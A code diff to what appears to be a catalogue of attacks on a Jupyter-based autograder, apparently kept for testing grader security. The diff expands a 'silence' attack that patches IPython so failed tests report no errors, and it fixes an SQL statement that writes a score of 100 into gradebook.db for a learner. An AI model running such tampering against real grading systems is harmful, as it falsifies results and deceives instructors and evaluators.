@@ -67,7 +67,16 @@ def square(x):
     attack(
         "silence",
         "Failed tests say nothing any more.",
-        "get_ipython().showtraceback = lambda *args, **more: None",
+        """
+shell = get_ipython()
+shell.showtraceback = lambda *args, **more: None
+ran = shell.run_cell_async
+async def run(*args, **more):
+    result = await ran(*args, **more)
+    result.error_before_exec = result.error_in_exec = None
+    return result
+shell.run_cell_async = run
+""",
         Gain.FULL,
     ),
     attack(
@@ -113,7 +122,7 @@ for path in glob.glob("../../../submitted/honest/*/*.ipynb"):
 import sqlite3
 book = sqlite3.connect("../../../gradebook.db", timeout=60)
 book.execute("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
-    "JOIN submitted_assignment ON submitted_assignment.id = assignment_id WHERE student_id = '<learner>')")
+    "JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id WHERE student_id = '<learner>')")
 book.commit()
 book.close()
 """,
